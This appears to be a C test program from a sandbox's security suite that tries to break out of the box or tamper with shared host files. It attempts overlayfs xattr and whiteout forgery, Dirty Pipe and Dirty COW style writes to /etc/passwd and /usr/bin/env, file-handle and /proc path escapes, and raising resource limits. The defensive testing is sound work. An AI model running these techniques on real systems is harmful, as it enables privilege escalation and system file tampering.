// SPDX-License-Identifier: MIT
// files lower|shared|links|limits - attacks on files that the box shares with the host: the canary,
// writable through an overlay at /testbed and read-only at /canary, and /usr.
#include <linux/fs.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>

#include "tests/sandbox/attacks/attack.h"

// --- the overlay ---------------------------------------------------------------------------------

static void lower_attack(void)
{
    (void)!chdir("/testbed");
    TRY("whiteout", mknod("white", S_IFCHR, makedev(0, 0)));
    TRY("whiteout_over", rename("/tmp/" MARK, "file"));
    TRY("opaque", setxattr(".", "user.overlay.opaque", "y", 1, 0));
    TRY("redirect", setxattr("dir", "user.overlay.redirect", "/../..", 6, 0));
    TRY("metacopy", setxattr("file", "user.overlay.metacopy", "", 0, 0));
    TRY("trusted", setxattr("dir", "trusted.overlay.opaque", "y", 1, 0));
    TRY("origin", setxattr("file", "user.overlay.origin", "x", 1, 0));
    TRY("rename_whiteout", syscall(SYS_renameat2, AT_FDCWD, "marked", AT_FDCWD, "moved", 4));
    TRY("exchange", syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "setuid", 2));
    TRY("append", attack_write("file", "forged"));
    TRY("truncate", truncate("setuid", 0));
    TRY("chmod", chmod("dir/deep/file", 04777));
    TRY("chown", chown("dir/deep/file", 1000, 1000));
    TRY("utime", utimes("dir/secret", NULL));
    TRY("xattr", setxattr("marked", "user.note", "forged", 6, 0));
    TRY("remove_xattr", removexattr("marked", "user.note"));
    TRY("hard_link", link("dir/secret", "linked"));
    TRY("write_link", attack_write("linked", "forged"));
    TRY("unlink", unlink("dir/secret"));
    TRY("rename_over", rename("linked", "dir/deep/file"));
    TRY("rmdir", unlink("dir/deep/file") == 0 ? rmdir("dir/deep") : -1);
    TRY("rename_dir", rename("dir", "other"));
    TRY("unlink_symlink", unlink("link"));
}

static void map_and_write(const char *prefix, const char *path)
{
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    const int mem_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    char name[64];
    int pipes[2];
    char *map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    char *copy = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    const char byte = '!';
    loff_t offset = 1;
    struct iovec piece = {map, 4};
    char scratch[8];

    (void)snprintf(name, sizeof(name), "%s_map_write", prefix);
    TRY(name, mprotect(map, 4096, PROT_READ | PROT_WRITE));
    (void)snprintf(name, sizeof(name), "%s_mem_shared", prefix);
    TRY(name, pwrite(mem_fd, &byte, 1, (off_t)(size_t)map));
    (void)snprintf(name, sizeof(name), "%s_mem_private", prefix); // a copy of ours, nobody else's
    TRY(name, pwrite(mem_fd, &byte, 1, (off_t)(size_t)copy));
    // Dirty Pipe: a page of the file in a pipe, then a write that would merge into it.
    if (pipe(pipes) == 0) {
        for (int i = 0; i < 16; i++)
            (void)!write(pipes[1], scratch, sizeof(scratch));
        for (int i = 0; i < 16; i++)
            (void)!read(pipes[0], scratch, sizeof(scratch));
        (void)!splice(fd, &offset, pipes[1], NULL, 1, 0);
        (void)snprintf(name, sizeof(name), "%s_splice", prefix);
        TRY(name, write(pipes[1], &byte, 1));
        (void)snprintf(name, sizeof(name), "%s_vmsplice", prefix);
        TRY(name, vmsplice(pipes[1], &piece, 1, SPLICE_F_GIFT));
        (void)snprintf(name, sizeof(name), "%s_splice_back", prefix);
        TRY(name, splice(pipes[0], NULL, fd, NULL, 1, 0));
    }
    // Dirty COW: throw the private copy away while writing it through /proc/self/mem.
    for (int i = 0; i < 2000; i++) {
        (void)madvise(copy, 4096, MADV_DONTNEED);
        (void)!pwrite(mem_fd, &byte, 1, (off_t)(size_t)copy);
    }
    (void)snprintf(name, sizeof(name), "%s_intact", prefix);
    errno = 0;
    attack_say(name, pread(fd, scratch, 1, 0) == 1 && scratch[0] != byte ? "done" : "changed");
    (void)close(fd);
    (void)close(mem_fd);
}

static void change_shared(const char *prefix, const char *path)
{
    const int source_fd = open(path, O_RDONLY | O_CLOEXEC);
    struct file_clone_range range = {.src_fd = source_fd};
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    char name[64];
    int flags = FS_IMMUTABLE_FL;

#define TRY_ON(what, call)                                                                         \
    ((void)snprintf(name, sizeof(name), "%s_%s", prefix, what), TRY(name, call))
    TRY_ON("open", attack_open(path, O_WRONLY));
    TRY_ON("truncate", truncate(path, 0));
    TRY_ON("chmod", chmod(path, 0777));
    TRY_ON("fchmod", fchmod(fd, 0777));
    TRY_ON("chown", chown(path, 1000, 1000));
    TRY_ON("utime", utimes(path, NULL));
    TRY_ON("xattr", setxattr(path, "user.x", "y", 1, 0));
    TRY_ON("unlink", unlink(path));
    TRY_ON("rename", rename(path, "/tmp/" MARK));
    TRY_ON("link", link(path, "/tmp/" MARK));
    TRY_ON("flags", ioctl(fd, FS_IOC_SETFLAGS, &flags));
    TRY_ON("clone_range", ioctl(fd, FICLONERANGE, &range));
    TRY_ON("lease_write", fcntl(fd, F_SETLEASE, F_WRLCK));
    TRY_ON("lease_read", fcntl(fd, F_SETLEASE, F_RDLCK));
    TRY_ON("lease_high", syscall(SYS_fcntl, fd, (1UL << 32) | F_SETLEASE, F_RDLCK));
    TRY_ON("fallocate", fallocate(fd, 0, 0, 4096));
    (void)close(fd);
    (void)close(source_fd);
}

// What is shared as a whole, read-only: a folder of the plan's, /usr, /etc.
static void shared_attack(void)
{
    change_shared("canary", "/canary/file");
    change_shared("usr", "/usr/bin/env");
    change_shared("etc", "/etc/passwd");
    map_and_write("canary", "/canary/file");
    map_and_write("usr", "/usr/bin/env");
    TRY("setuid_exec", access("/canary/setuid", X_OK));
    TRY("create_canary", attack_open("/canary/" MARK, O_WRONLY | O_CREAT));
    TRY("create_usr", attack_open("/usr/bin/" MARK, O_WRONLY | O_CREAT));
    TRY("create_local", attack_open("/usr/local/" MARK, O_WRONLY | O_CREAT));
    TRY("create_etc", attack_open("/etc/" MARK, O_WRONLY | O_CREAT));
    TRY("create_root", attack_open("/" MARK, O_WRONLY | O_CREAT));
    TRY("create_dev", attack_open("/dev/" MARK, O_WRONLY | O_CREAT));
    TRY("create_run", attack_open("/run/" MARK, O_WRONLY | O_CREAT));
}

// --- links and other ways around a mount ---------------------------------------------------------

static void links_attack(void)
{
    struct file_handle *handle = calloc(1, sizeof(*handle) + 128);
    char path[64];
    int mount_id = 0;
    int fd = open("/tmp", O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
    int exec_fd = -1;
    struct {
        // cppcheck-suppress unusedStructMember
        unsigned long flags, mode, resolve;
    } how = {O_RDONLY, 0, 0};

    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    TRY("tmpfile", fd);
    TRY("tmpfile_link", linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/linked", AT_SYMLINK_FOLLOW));
    TRY("tmpfile_link_across",
            linkat(AT_FDCWD, path, AT_FDCWD, "/testbed/linked", AT_SYMLINK_FOLLOW));
    TRY("tmpfile_link_usr", linkat(AT_FDCWD, path, AT_FDCWD, "/usr/linked", AT_SYMLINK_FOLLOW));
    (void)close(fd);
    TRY("link_across", link("/usr/bin/env", "/tmp/env"));
    TRY("link_testbed", link("/testbed/file", "/tmp/file"));
    TRY("link_proc", link("/proc/self/mem", "/tmp/mem"));
    handle->handle_bytes = 128;
    TRY("handle", name_to_handle_at(AT_FDCWD, "/usr", handle, &mount_id, 0));
    TRY("open_by_handle", open_by_handle_at(AT_FDCWD, handle, O_RDONLY));
    free(handle);
    TRY("above_root", attack_open("/../../../../../work", O_RDONLY));
    TRY("above_root_proc", attack_open("/proc/self/root/../../work", O_RDONLY));
    TRY("above_cwd", attack_open("/proc/self/cwd/../../../work", O_RDONLY));
    TRY("openat2_above", syscall(NR_OPENAT2, AT_FDCWD, "/proc/1/root", &how, sizeof(how)));
    // A descriptor that a leaked one would be: none is open but 0, 1 and 2.
    for (fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            break;
    attack_say("inherited", fd == 1024 ? "none" : "some");
    TRY("stdin_above", openat(0, "..", O_RDONLY | O_CLOEXEC));
    // A program that is in no file.
    exec_fd = memfd_create("x", MFD_CLOEXEC);
    fd = open("/usr/bin/true", O_RDONLY | O_CLOEXEC);
    for (char bytes[4096]; read(fd, bytes, sizeof(bytes)) > 0;)
        (void)!write(exec_fd, bytes, sizeof(bytes));
    const pid_t pid = fork();
    int status = 0;

    if (pid == 0) {
        char *argv[] = {(char[]){"true"}, NULL};

        (void)syscall(SYS_execveat, exec_fd, "", argv, NULL, AT_EMPTY_PATH);
        _exit(77);
    }
    (void)waitpid(pid, &status, 0);
    attack_say("memfd_exec", status == 0 ? "done" : "failed"); // it is the same box
    TRY("watch_usr_dirs", inotify_init1(IN_CLOEXEC));
}

// --- limits that might be raised -----------------------------------------------------------------

static void limits_attack(void)
{
    static const struct {
        const char *name;
        int resource;
    } rows[] = {{"nofile", RLIMIT_NOFILE}, {"fsize", RLIMIT_FSIZE}, {"memlock", RLIMIT_MEMLOCK},
            {"msgqueue", RLIMIT_MSGQUEUE}, {"sigpending", RLIMIT_SIGPENDING},
            {"rtprio", RLIMIT_RTPRIO}, {"nice", RLIMIT_NICE}, {"cpu", RLIMIT_CPU}};
    struct rlimit limit;
    char name[32];

    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        (void)getrlimit((__rlimit_resource_t)rows[i].resource, &limit);
        limit.rlim_max++;
        (void)snprintf(name, sizeof(name), "raise_%s", rows[i].name);
        TRY(name, setrlimit((__rlimit_resource_t)rows[i].resource, &limit));
    }
    // A core limit of 0 would let a host's core_pattern run its program; 1 does not.
    limit.rlim_cur = limit.rlim_max = 0;
    TRY("core_to_0", setrlimit(RLIMIT_CORE, &limit));
    TRY("core_prlimit", prlimit(0, RLIMIT_CORE, &limit, NULL));
    (void)getrlimit(RLIMIT_CORE, &limit);
    attack_say("core_is", limit.rlim_cur == 1 && limit.rlim_max == 1 ? "1" : "other");
    limit.rlim_cur = limit.rlim_max = RLIM_INFINITY;
    TRY("core_to_infinity", setrlimit(RLIMIT_CORE, &limit));
    (void)getrlimit(RLIMIT_CORE, &limit);
    attack_say("core_is", limit.rlim_cur <= 1 ? "small" : "large");
    const pid_t pid = fork();

    if (pid == 0) {
        (void)!chdir("/tmp");
        abort();
    }
    (void)waitpid(pid, NULL, 0);
    TRY("core_file", access("/tmp/core", F_OK));
}

int main(int argc, char **argv)
{
    static const struct attack_command commands[] = {{"lower", lower_attack},
            {"shared", shared_attack}, {"links", links_attack}, {"limits", limits_attack}};

    return ATTACK_MAIN(argc, argv, commands);
}
